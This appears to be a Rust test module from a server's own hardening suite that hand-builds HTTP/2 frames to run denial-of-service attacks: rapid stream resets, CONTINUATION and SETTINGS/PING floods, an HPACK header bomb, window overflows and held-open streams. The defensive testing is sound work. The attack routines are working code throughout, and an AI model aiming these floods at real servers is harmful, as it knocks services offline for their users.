//! What hostile peers do in HTTP/2: frames by hand.

use std::io::Write;
use std::time::Duration;

use super::Siege;
use super::https::{drained, tls};
use crate::web::Tls;

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";

const DATA: u8 = 0;
const HEADERS: u8 = 1;
const PRIORITY: u8 = 2;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const WINDOW_UPDATE: u8 = 8;
const CONTINUATION: u8 = 9;

const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;

fn frame(kind: u8, flags: u8, stream: u32, body: &[u8]) -> Vec<u8> {
    let mut bytes = (body.len() as u32).to_be_bytes()[1..].to_vec();
    bytes.extend([kind, flags]);
    bytes.extend(stream.to_be_bytes());
    bytes.extend(body);
    bytes
}

fn setting(id: u16, value: u32) -> Vec<u8> {
    frame(SETTINGS, 0, 0, &[&id.to_be_bytes()[..], &value.to_be_bytes()].concat())
}

/// A header that no table knows and no table keeps.
fn literal(name: &str, value: &str) -> Vec<u8> {
    assert!(name.len() < 127 && value.len() < 127 + 128, "lengths of a byte or two");
    let mut bytes = vec![0, name.len() as u8];
    bytes.extend(name.bytes());
    match value.len() {
        short @ ..127 => bytes.push(short as u8),
        long => bytes.extend([127, (long - 127) as u8]),
    }
    bytes.extend(value.bytes());
    bytes
}

/// `POST /introspect` by the caller `api`.
fn introspect(basic: &str) -> Vec<u8> {
    // :method POST, :scheme https, :path and :authority by their names in the static table.
    let mut bytes = vec![0x83, 0x87, 0x04, 11];
    bytes.extend(b"/introspect");
    bytes.extend([0x01, 1, b'x']);
    bytes.extend(literal("authorization", &format!("Basic {basic}")));
    bytes.extend(literal("content-type", "application/x-www-form-urlencoded"));
    bytes
}

fn opened(siege: &Siege) -> Tls {
    let mut stream = tls(siege, b"h2");
    let _ = stream.write_all(&[PREFACE, &frame(SETTINGS, 0, 0, &[])].concat());
    stream
}

/// Writes as much of it as the server takes, reads what it says, and lets go.
fn pours(siege: &Siege, part: impl Fn(u32) -> Vec<u8>, parts: u32) {
    for _ in 0..4 {
        let mut stream = opened(siege);
        let mut bytes = Vec::new();
        for number in 0..parts {
            bytes.extend(part(number));
            if bytes.len() >= 16 << 10 || number + 1 == parts {
                if stream.write_all(&bytes).is_err() {
                    break;
                }
                bytes.clear();
            }
        }
        let _ = stream.flush();
    }
}

pub fn attack(siege: &Siege, basic: &str) {
    let head = introspect(basic);
    let stream = |number: u32| 2 * number + 1;
    siege.kind("h2: streams opened and reset at once", || {
        let part = |number| {
            let open = frame(HEADERS, END_HEADERS, stream(number), &head);
            [open, frame(RST_STREAM, 0, stream(number), &8_u32.to_be_bytes())].concat()
        };
        pours(siege, part, 10_000);
    });
    siege.kind("h2: requests that are wrong, so that the server resets them", || {
        // A frame of the wrong size for each stream.
        let part = |number| {
            let open = frame(HEADERS, END_HEADERS, stream(number), &head);
            [open, frame(WINDOW_UPDATE, 0, stream(number), &[0; 4])].concat()
        };
        pours(siege, part, 10_000);
    });
    siege.kind("h2: a head that goes on for ever", || {
        let part = |number| match number {
            0 => frame(HEADERS, 0, 1, &head),
            _ => frame(CONTINUATION, 0, 1, &literal("x-more", &"x".repeat(200)).repeat(70)),
        };
        pours(siege, part, 2_000);
    });
    siege.kind("h2: a head that goes on for ever with nothing", || {
        let part = |number| if number == 0 { frame(HEADERS, 0, 1, &head) } else { frame(CONTINUATION, 0, 1, &[]) };
        pours(siege, part, 50_000);
    });
    siege.kind("h2: a small head that becomes a large one", || {
        // A header of 4,000 bytes is kept in the table, and named three thousand times in a byte each.
        let mut bomb = head.clone();
        bomb.extend([0x40, 1, b'x', 127, 0xa1, 0x1e]);
        bomb.extend(vec![b'x'; 127 + 0x21 + 0x1e * 128]);
        bomb.extend(vec![0xbe; 3_000]);
        let part = |number| frame(HEADERS, END_HEADERS | END_STREAM, stream(number), &bomb);
        pours(siege, part, 200);
    });
    siege.kind("h2: settings without end", || pours(siege, |number| setting(4, number), 20_000));
    siege.kind("h2: the table's size, up and down", || {
        pours(siege, |number| setting(1, if number % 2 == 0 { 0 } else { 1 << 30 }), 20_000);
    });
    siege.kind("h2: pings without end, and no answer read", || {
        pours(siege, |number| frame(PING, 0, 0, &u64::from(number).to_be_bytes()), 50_000);
    });
    siege.kind("h2: empty data without end", || {
        let part = |number| {
            if number == 0 { frame(HEADERS, END_HEADERS, 1, &head) } else { frame(DATA, 0, 1, &[]) }
        };
        pours(siege, part, 50_000);
    });
    siege.kind("h2: priorities and frames nobody knows", || {
        let part = |number| {
            let priority = frame(PRIORITY, 0, stream(number), &[0, 0, 0, 1, 5]);
            [priority, frame(0xfa, 0, 0, &[1; 50])].concat()
        };
        pours(siege, part, 20_000);
    });
    siege.kind("h2: windows opened beyond their end", || {
        pours(siege, |_| frame(WINDOW_UPDATE, 0, 0, &0x7fff_ffff_u32.to_be_bytes()), 100);
    });
    siege.kind("h2: every stream open, and bodies that never come", || {
        let mut held: Vec<Tls> = (0..20).map(|_| opened(siege)).collect();
        for connection in &mut held {
            for number in 0..200 {
                let _ = connection.write_all(&frame(HEADERS, END_HEADERS, stream(number), &head));
            }
            let _ = connection.flush();
        }
        std::thread::sleep(Duration::from_millis(1_500));
    });
    siege.kind("h2: no window for answers", || {
        let mut held: Vec<Tls> = (0..20).map(|_| opened(siege)).collect();
        for connection in &mut held {
            let _ = connection.write_all(&setting(4, 0));
            for number in 0..16 {
                let request = frame(HEADERS, END_HEADERS, stream(number), &head);
                let body = frame(DATA, END_STREAM, stream(number), b"token=x");
                let _ = connection.write_all(&[request, body].concat());
            }
            let _ = connection.flush();
        }
        std::thread::sleep(Duration::from_millis(500));
        drained(&mut held[0]);
    });
    siege.kind("h2: a preface that is none", || {
        for bytes in [&PREFACE[..20], b"PRI * HTTP/2.0\r\n\r\nXX\r\n\r\n", b"GET / HTTP/1.1\r\nhost: x\r\n\r\n"] {
            let mut stream = tls(siege, b"h2");
            let _ = stream.write_all(bytes).and_then(|()| stream.flush());
            drained(&mut stream);
        }
    });
}
